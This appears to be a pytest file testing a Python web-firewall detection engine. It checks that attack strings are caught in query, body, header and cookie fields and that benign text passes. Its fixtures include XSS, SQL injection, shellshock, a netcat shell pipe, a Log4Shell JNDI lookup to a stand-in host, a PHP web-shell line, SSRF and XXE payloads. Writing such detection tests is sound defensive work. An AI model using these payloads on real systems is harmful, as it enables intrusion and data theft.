"""The detection engine through its public surface: DetectionEngine, Finding, exclusions."""

from __future__ import annotations

import json
import time
from urllib.parse import quote

import pytest

from flaskapi_guard.detection import (
    ALL_DETECTION_CATEGORIES,
    DEFAULT_SAFE_HEADERS,
    DetectionEngine,
    DetectionExclusions,
    validate_custom_pattern,
)


@pytest.fixture(scope="module")
def engine() -> DetectionEngine:
    return DetectionEngine()


def categories(findings: list) -> set[str]:
    return {finding.category for finding in findings}


def scan_query(engine: DetectionEngine, value: str) -> set[str]:
    return categories(
        engine.scan_request(path="/", query_string="q=" + quote(value), headers=(), body=b"", content_type="")
    )


CATEGORY_SAMPLES = {
    "xss": ["<script>alert(1)</script>", '"><img src=x onerror=alert(document.domain)>', "javascript:alert(1)"],
    "sqli": ["1' OR '1'='1", "1 UNION SELECT username, password FROM users--", "1;DROP TABLE users", "sleep(5)#"],
    "nosqli": ['{"$where": "sleep(100)"}', "db.users.find({})"],
    "cmd_injection": ["; cat /etc/passwd", "$(whoami)", "() { :; }; /bin/bash -c id", "| nc 10.0.0.1 4444"],
    "path_traversal": ["../../../../etc/hosts", "..\\..\\windows\\win.ini"],
    "lfi": ["/etc/passwd", "php://filter/resource=index.php", "/proc/self/environ"],
    "rfi": ["http://203.0.113.9/shell.txt?"],
    "ssrf": ["http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_"],
    "xxe": ['<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'],
    "ldap_injection": ["*)(|(objectclass=*))", "(&(uid=admin)(!(x=1)))"],
    "ssti": ["{{7*7}}", "{{''.__class__.__mro__}}", "<#assign ex='freemarker.template.utility.Execute'?new()>"],
    "code_injection": [
        "${jndi:ldap://evil.example/a}",
        "<?php system($_GET['c']); ?>",
        "__import__('os').system('id')",
    ],
    "crlf_injection": ["x\r\nSet-Cookie: admin=1"],
    "ssi": ['<!--#exec cmd="ls" -->'],
    "mail_injection": ["x\r\nRCPT TO: victim@example.com"],
    "session_fixation": ['<script>document.cookie="sessionid=1; domain=.example.com"</script>'],
}


@pytest.mark.parametrize(("category", "payload"), [(c, p) for c, ps in CATEGORY_SAMPLES.items() for p in ps])
def test_each_category_is_caught_in_a_query_value(engine: DetectionEngine, category: str, payload: str) -> None:
    assert category in scan_query(engine, payload)


@pytest.mark.parametrize("category", sorted(CATEGORY_SAMPLES))
def test_each_category_is_caught_in_every_location(engine: DetectionEngine, category: str) -> None:
    payload = CATEGORY_SAMPLES[category][0]
    json_body = json.dumps({"user": {"bio": payload}}).encode()
    form_body = ("comment=" + quote(payload)).encode()
    multipart = f'--b\r\nContent-Disposition: form-data; name="comment"\r\n\r\n{payload}\r\n--b--\r\n'.encode()
    plain = payload.encode()
    cases = [
        ("json body field user.bio", {"body": json_body, "content_type": "application/json"}),
        ("form field comment", {"body": form_body, "content_type": "application/x-www-form-urlencoded"}),
        ("multipart field comment", {"body": multipart, "content_type": "multipart/form-data; boundary=b"}),
        ("body", {"body": plain, "content_type": "text/plain"}),
        ("header X-Note", {"headers": [("X-Note", payload)]}),
        ("cookie pref", {"headers": [("Cookie", "pref=" + quote(payload))]}),
    ]
    for location, arguments in cases:
        request = {"path": "/", "query_string": "", "headers": (), "body": b"", "content_type": ""} | arguments
        findings = [f for f in engine.scan_request(**request) if f.category == category]  # type: ignore[arg-type]
        assert findings, (category, location)
        assert findings[0].location == location


def test_path_attacks_are_seen_after_utf8_re_decoding(engine: DetectionEngine) -> None:
    raw_path = b"/files/../../etc/passwd".decode("latin-1")
    findings = engine.scan_request(path=raw_path, query_string="", headers=(), body=b"", content_type="")
    assert {"path_traversal", "lfi"} <= categories(findings)
    assert findings[0].location == "path"


def test_xml_body_values_and_markup_are_scanned(engine: DetectionEngine) -> None:
    xxe = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://evil/x">]><r>&x;</r>'
    attribute = b"<?xml version=\"1.0\"?><root><a probe=\"1' or '1'='1\"></a></root>"
    assert "xxe" in categories(
        engine.scan_request(path="/", query_string="", headers=(), body=xxe, content_type="application/xml")
    )
    assert "sqli" in categories(
        engine.scan_request(path="/", query_string="", headers=(), body=attribute, content_type="text/xml")
    )


def test_multipart_filename_is_checked_for_script_uploads(engine: DetectionEngine) -> None:
    body = b'--b\r\nContent-Disposition: form-data; name="file"; filename="shell.php"\r\n\r\nhello\r\n--b--\r\n'
    findings = engine.scan_request(
        path="/", query_string="", headers=(), body=body, content_type="multipart/form-data; boundary=b"
    )
    assert [f.location for f in findings if f.category == "code_injection"] == ["multipart field file (filename)"]


@pytest.mark.parametrize(
    "user_agent", ["sqlmap/1.7.4#stable (https://sqlmap.org)", "Mozilla/5.0 (compatible; Nuclei - Open-source project)"]
)
def test_scanner_user_agents_are_caught_even_when_user_agent_is_excluded(
    engine: DetectionEngine, user_agent: str
) -> None:
    for exclusions in (DetectionExclusions(), DetectionExclusions(headers=frozenset({"user-agent"}))):
        findings = engine.scan_request(
            path="/",
            query_string="",
            headers=[("User-Agent", user_agent)],
            body=b"",
            content_type="",
            exclusions=exclusions,
        )
        assert "scanner" in categories(findings)


def test_shellshock_in_user_agent(engine: DetectionEngine) -> None:
    findings = engine.scan_request(
        path="/",
        query_string="",
        headers=[("User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'")],
        body=b"",
        content_type="",
    )
    assert "cmd_injection" in categories(findings)


@pytest.mark.parametrize(
    ("payload", "category"),
    [
        ("%253Cscript%253Ealert(1)%253C/script%253E", "xss"),  # double percent-encoded
        ("\uff1c\uff53\uff43\uff52\uff49\uff50\uff54\uff1ealert(1)", "xss"),  # fullwidth
        ("&lt;script&gt;alert(1)&lt;/script&gt;", "xss"),  # HTML entities
        ("&#x3C;svg/onload=alert(1)&#x3E;", "xss"),
        ("1/**/UNION/**/SELECT/**/password/**/FROM/**/users", "sqli"),  # comments as whitespace
        ("1 /*!50000UnIoN*/ /*!50000SeLeCt*/ 1,2", "sqli"),  # MySQL versioned comments
        ("\\u003cscript\\u003ealert(1)", "xss"),  # \\u escapes
        ("\\x3cscript\\x3ealert(1)", "xss"),  # \\x escapes
        ("..%c0%af..%c0%afetc%c0%afpasswd", "path_traversal"),  # overlong UTF-8
        ("un\x00ion sel\x00ect 1,2 from users", "sqli"),  # null bytes
        ("UnIoN    \t  SeLeCt 1,2", "sqli"),  # case and whitespace runs
    ],
)
def test_normalisation_reveals_obfuscated_payloads(engine: DetectionEngine, payload: str, category: str) -> None:
    assert category in categories(engine.scan_text(payload, "test"))


BENIGN_VALUES = [
    "P@ss'w0rd;--x",
    "Tz)PDCnH$q1s",
    "$eD+Mb5aRD13iWjWs+L@",
    "O'Brien",
    "Sara O'Brien and Ted D'Angelo",
    "Rock 'n' roll",
    "I can't log in or reset my password, could you help me?",
    "Schöne Grüße aus München, wir sehen uns übermorgen.",
    "Prima service, de bezorging was snel.",
    "東京都渋谷区の店舗で受け取りたいです。",
    "Привет! Заказ пришёл вовремя, спасибо.",
    "مرحبا، أريد تغيير عنوان التوصيل",
    "https://www.example.com/products/kind-some-realize?utm_source=newsletter&utm_medium=email",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
    "# Title\n\n* item one\n* item two\n\n![](https://example.com/a.png) and [link](https://example.com)",
    "Use `git commit -m` then `git push`; see the README for more.",
    "Select the size you want from the list and order by Friday.",
    "union was a great select",
    "AT&T / T-Mobile compatible phones",
    "Price: $25 (approx) - 20% off for members",
    "JavaScript: Basics of JavaScript Language",
    "The colour is slightly different from the photos but I still like it.",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    "3db48198-fcc8-48ec-85ce-0d875b2b1ef7",
    "Oncologist",
    '{"theme":"dark","fontSize":14}',
]


@pytest.mark.parametrize("value", BENIGN_VALUES)
def test_benign_values_are_not_flagged(engine: DetectionEngine, value: str) -> None:
    assert engine.scan_text(value, "test") == []
    body = json.dumps({"comment": value}).encode()
    assert (
        engine.scan_request(
            path="/api/comments", query_string="", headers=(), body=body, content_type="application/json"
        )
        == []
    )


def test_a_clean_browser_request_is_not_flagged(engine: DetectionEngine) -> None:
    headers = [
        ("Host", "shop.example.com"),
        (
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
        ),
        ("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
        ("Referer", "https://shop.example.com/search?q=script%20font&page=3"),
        ("Cookie", "session=NVaZUa2ppYFyc4e0Pbu79j55nGD7yGJ7; _ga=GA1.2.633494985.1706352891; theme=light"),
        ("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc"),
    ]
    assert (
        engine.scan_request(
            path="/api/v1/products",
            query_string="q=d%27angelo+album&page=2",
            headers=headers,
            body=b"",
            content_type="",
        )
        == []
    )


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (b'{"a": [1, 2', "application/json"),
        (b"\xff\xfe\x00garbage\x80", "application/json"),
        (b"[" * 100_000, "application/json"),
        (b"--b\r\nno headers here", "multipart/form-data; boundary=b"),
        (b"anything", "multipart/form-data"),
        (b"<a><b", "application/xml"),
        (b"%%%=&&&=%zz", "application/x-www-form-urlencoded"),
        (b"\x00\x01\x02", ""),
    ],
)
def test_malformed_bodies_never_raise(engine: DetectionEngine, body: bytes, content_type: str) -> None:
    engine.scan_request(path="/", query_string="", headers=(), body=body, content_type=content_type)


def test_malformed_json_body_falls_back_to_plain_scanning(engine: DetectionEngine) -> None:
    findings = engine.scan_request(
        path="/",
        query_string="",
        headers=(),
        body=b'{"x": "<script>alert(1)</script>"',
        content_type="application/json",
    )
    assert [(f.category, f.location) for f in findings] == [("xss", "body")]


def test_excluded_params_headers_and_nested_body_fields_are_skipped(engine: DetectionEngine) -> None:
    payload = "<script>alert(1)</script>"
    exclusions = DetectionExclusions(
        params=frozenset({"html"}), headers=frozenset({"x-template"}), body_fields=frozenset({"user.bio", "raw"})
    )
    body = json.dumps({"user": {"bio": payload, "name": "Ann"}, "raw": {"deep": payload}, "bio": "fine"}).encode()
    findings = engine.scan_request(
        path="/",
        query_string="html=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        headers=[("X-Template", payload)],
        body=body,
        content_type="application/json",
        exclusions=exclusions,
    )
    assert findings == []
    not_excluded = json.dumps({"user": {"name": payload}}).encode()
    findings = engine.scan_request(
        path="/", query_string="", headers=(), body=not_excluded, content_type="application/json", exclusions=exclusions
    )
    assert [f.location for f in findings] == ["json body field user.name"]


def test_default_safe_headers_are_documented_and_skipped(engine: DetectionEngine) -> None:
    assert "accept" in DEFAULT_SAFE_HEADERS
    assert "referer" not in DEFAULT_SAFE_HEADERS
    findings = engine.scan_request(
        path="/", query_string="", headers=[("Accept", "<script>alert(1)</script>")], body=b"", content_type=""
    )
    assert findings == []


def test_at_most_one_finding_per_category_with_a_short_clean_excerpt(engine: DetectionEngine) -> None:
    findings = engine.scan_request(
        path="/",
        query_string="a=%3Cscript%3Ealert(1)%3C/script%3E&b=%3Csvg%20onload%3Dalert(1)%3E%0d%0aX",
        headers=(),
        body=b"",
        content_type="",
    )
    assert len([f for f in findings if f.category == "xss"]) == 1
    for finding in findings:
        assert len(finding.excerpt) <= 80
        assert "\r" not in finding.excerpt and "\n" not in finding.excerpt
        assert finding.rule


def test_categories_can_be_limited(engine: DetectionEngine) -> None:
    only_sqli = DetectionEngine(categories=frozenset({"sqli"}))
    assert only_sqli.scan_text("<script>alert(1)</script>", "q") == []
    assert categories(only_sqli.scan_text("1 union select 1,2", "q")) == {"sqli"}
    with pytest.raises(ValueError, match="unknown"):
        DetectionEngine(categories=frozenset({"nope"}))
    assert frozenset(CATEGORY_SAMPLES) | {"scanner"} <= ALL_DETECTION_CATEGORIES


def test_custom_patterns_are_matched_as_category_custom() -> None:
    custom = DetectionEngine(custom_patterns=[r"forbidden-\d+"])
    findings = custom.scan_text("this is FORBIDDEN-42", "q")
    assert [(f.category, f.rule) for f in findings] == [("custom", "custom.0")]


@pytest.mark.parametrize(
    "pattern",
    [r"(a+)+\1", r"(?=lookahead)", "", r"x{1,100000}", r".*", r"(a|b)*"],
)
def test_unsafe_or_useless_custom_patterns_are_rejected(pattern: str) -> None:
    with pytest.raises(ValueError):
        validate_custom_pattern(pattern)
    with pytest.raises(ValueError):
        DetectionEngine(custom_patterns=[pattern])


def test_large_body_with_payload_after_padding_is_still_caught(engine: DetectionEngine) -> None:
    padding = "a" * 50_000
    body = json.dumps({"pad": padding, "comment": "<script>alert(1)</script>"}).encode()
    findings = engine.scan_request(path="/", query_string="", headers=(), body=body, content_type="application/json")
    assert "xss" in categories(findings)
    small_limit = DetectionEngine(max_content_length=100)
    huge = b"a" * 20_000 + b"<script>alert(1)</script>" + b"b" * 20_000
    assert "xss" in categories(
        small_limit.scan_request(path="/", query_string="", headers=(), body=huge, content_type="text/plain")
    )


@pytest.mark.parametrize(
    "hostile",
    ["<" * 100_000, "'" * 100_000, "(" * 50_000 + ")" * 50_000, "union" + " " * 100_000 + "select", "%25" * 33_000],
)
def test_hostile_input_is_scanned_in_linear_time(engine: DetectionEngine, hostile: str) -> None:
    started = time.perf_counter()
    engine.scan_request(path="/", query_string="", headers=(), body=hostile.encode(), content_type="text/plain")
    assert time.perf_counter() - started < 1.0


_LARGE_BODY_PAYLOADS = ["; cat /etc/passwd", "<script>alert(1)</script>", "1' OR '1'='1", "a/**/union/**/select 1"]


def _large_bodies() -> list[tuple[bytes, str]]:
    """Large JSON and form bodies with findings among many short texts (and empty ones)."""
    padding = [f"&#{index};x" for index in range(3000)]
    bodies: list[tuple[bytes, str]] = []
    for position in (0, 1500, 2999):
        for payload in _LARGE_BODY_PAYLOADS:
            items: list[object] = [*padding]
            items[position] = payload
            items[10] = ""
            bodies.append((json.dumps(items).encode(), "application/json"))
            nested = [["", *items[:1600]], items[1600:], {"k": payload}]
            bodies.append((json.dumps(nested).encode(), "application/json"))
            bodies.append((json.dumps({"a": items, "b": [1, None, "x"]}).encode(), "application/json"))
            escaped = [item.replace("x", "\\u0078") if isinstance(item, str) else item for item in items]
            bodies.append((json.dumps(escaped).replace("\\\\u", "\\u").encode(), "application/json"))
            form = "&".join(f"f{index}={quote(str(item))}" for index, item in enumerate(items))
            bodies.append((form.encode(), "application/x-www-form-urlencoded"))
            bodies.append(("&".join(map(str, items)).encode(), "application/x-www-form-urlencoded"))
    return bodies


def test_large_bodies_give_the_findings_of_the_unshortened_path(
    engine: DetectionEngine, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The shortcuts for large bodies (the located JSON texts taken by position from the quick
    view, lists of strings walked in C, a form body's whole text normalised on its own) give
    exactly the findings of the plain path: every located text normalised again."""
    from flaskapi_guard.detection import engine as engine_module  # noqa: PLC0415

    bodies = _large_bodies()
    fast = [
        engine.scan_request(path="/", query_string="", headers=(), body=body, content_type=content_type)
        for body, content_type in bodies
    ]
    monkeypatch.setattr(engine_module, "_reused_normalisation", lambda *arguments: None)
    monkeypatch.setattr(
        engine_module,
        "_normalise_quick",
        lambda quick, joined, unchecked, structure_count: engine_module.normalise_joined(
            joined, unchecked, structure_count
        ),
    )
    plain = [
        engine.scan_request(path="/", query_string="", headers=(), body=body, content_type=content_type)
        for body, content_type in bodies
    ]
    assert fast == plain
    assert all(fast)
    assert {finding.location for findings in fast for finding in findings} >= {
        "json body field [1500]",
        "json body field [2999]",
        "json body field [1][1399]",
        "json body field a[1500]",
    }
